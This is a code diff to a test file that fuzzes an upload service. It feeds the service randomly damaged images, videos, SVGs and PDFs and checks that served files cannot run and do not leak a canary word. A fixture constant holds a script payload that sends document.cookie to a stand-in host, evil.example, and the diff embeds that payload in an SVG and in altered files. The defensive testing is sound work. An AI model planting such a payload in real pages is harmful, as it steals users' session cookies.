@@ -4,6 +4,7 @@ import { drainTasks } from '#server/queue/worker.ts';
 import { effort, seed } from '#tests/harness/effort.ts';
 import { canaryWord } from '#tests/harness/privacy/canaries.ts';
 import { useTestApp } from '#tests/harness/test-app.ts';
+import { Dice } from '#tests/modules/search-crowd.ts';
 import { HTML, PDF, TINY_PNG, zipOf } from './sample-files.ts';
 import { makeHeic } from './sample-heic.ts';
 import {
@@ -24,7 +25,11 @@ const web = useWeb(world);
 
 const SCRIPT = '<script>fetch("https://evil.example/?"+document.cookie)</script>';
 const SEED = seed('HOSTILE_SEED');
-const MUTATED = effort('HOSTILE_MUTATED', { gate: 6, proofs: 60 });
+/**
+ * With the others here three hundred files, two or three minutes in the proofs: each is prepared by a process of its own, which
+ * is part of the defense.
+ */
+const MUTATED = effort('HOSTILE_MUTATED', { gate: 8, proofs: 270 });
 
 type File = readonly [kind: UploadKind, fileName: string, bytes: Buffer];
 type Sender = { person: Member; client: TusClient };
@@ -226,24 +231,66 @@ describe('where and when something was taken', () => {
   });
 });
 
-describe(`files with bytes changed at random (${String(MUTATED)})`, () => {
-  it('are taken or refused, and what is taken is served as nothing that runs', async () => {
+type Base = readonly [kind: UploadKind, fileName: string, make: (canary: string) => Promise<Buffer>];
+/** What phones and people send, each with words that must not be served. */
+const BASES: readonly Base[] = [
+  ['photo', 'a.jpg', (canary) => makeTaggedPhoto('jpeg', canary)],
+  ['photo', 'a.png', async (canary) => withPngText(await makeTaggedPhoto('png', canary), canary)],
+  ['photo', 'a.webp', (canary) => makeTaggedPhoto('webp', canary)],
+  ['photo', 'a.heic', makeTaggedHeic],
+  ['video', 'a.mp4', (canary) => makeVideo({ canary })],
+  ['video', 'a.mov', (canary) => makeVideo({ format: 'mov', canary })],
+  [
+    'logo',
+    'a.svg',
+    (canary) => Promise.resolve(svg(`<title>${canary}</title>${SCRIPT}<rect width="9" height="9"/>`)),
+  ],
+  ['document', 'a.pdf', () => Promise.resolve(scriptedPdf())],
+];
+
+/** What is done to a file: other bytes, an end that is missing, parts that are moved, and another file behind it. */
+const DAMAGE: readonly ((bytes: Buffer, dice: Dice, other: Buffer) => Buffer)[] = [
+  (bytes, dice) => {
+    const changed = Buffer.from(bytes);
+    for (let change = 0; change < 5; change += 1) changed[dice.below(bytes.length)] = dice.below(256);
+    return changed;
+  },
+  (bytes, dice) => {
+    // Sizes and offsets of the first boxes and chunks.
+    const changed = Buffer.from(bytes);
+    changed.writeUInt32BE(dice.below(0x7fffffff), dice.below(Math.min(bytes.length - 4, 120)));
+    return changed;
+  },
+  (bytes, dice) => bytes.subarray(0, 1 + dice.below(bytes.length - 1)),
+  (bytes, dice) => {
+    const [from, length] = [dice.below(bytes.length), dice.below(400)];
+    const part = bytes.subarray(from, from + length);
+    return Buffer.concat([bytes.subarray(0, from), part, part, bytes.subarray(from + length)]);
+  },
+  (bytes, _dice, other) => Buffer.concat([bytes, Buffer.from(SCRIPT), zipOf('a.class'), other]),
+];
+
+describe(`files that were damaged at random (${String(MUTATED)})`, () => {
+  it('are taken or refused, and what is taken is served as nothing that runs, without what it must not say', async () => {
     const sender = await start();
-    const photos = [await makeTaggedPhoto('jpeg', 'x'), await makePhoto(16, 16), HEIC, await makeVideo()];
-    const names = ['a.jpg', 'a.png', 'a.heic', 'a.mp4'];
-    let state = SEED;
-    const next = (below: number) => {
-      state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
-      return state % below;
-    };
+    const canary = canaryWord();
+    const bases = await Promise.all(
+      BASES.map(async ([kind, name, make]) => [kind, name, await make(canary)] as const),
+    );
+    const dice = new Dice(SEED);
+    const became = { ready: 0, refused: 0 };
     for (let round = 0; round < MUTATED; round += 1) {
-      const which = round % photos.length;
-      const bytes = Buffer.from(photos[which] ?? TINY_PNG);
-      for (let change = 0; change < 5; change += 1) bytes[next(bytes.length)] = next(256);
-      const outcome = await send(sender, [which === 3 ? 'video' : 'photo', names[which] ?? '', bytes]);
-      expect(['ready', 'refused']).toContain(outcome.upload.status);
+      const [kind, fileName, bytes] = bases[round % bases.length] ?? expect.fail();
+      const damage = DAMAGE[Math.floor(round / bases.length) % DAMAGE.length] ?? expect.fail();
+      const outcome = await send(sender, [kind, fileName, damage(bytes, dice, dice.pick(bases)[2])]);
+      const { status } = outcome.upload;
+      if (status !== 'ready' && status !== 'refused') expect.fail(`It is ${status}.`);
+      became[status] += 1;
       expectInert(outcome);
+      for (const { bytes: served } of outcome.served) expect(served.includes(canary)).toBe(false);
       await sender.person.call.uploads.remove({ id: outcome.upload.id });
     }
+    expect(became.refused).toBeGreaterThan(0);
+    expect(became.ready).toBeGreaterThan(0);
   });
 });
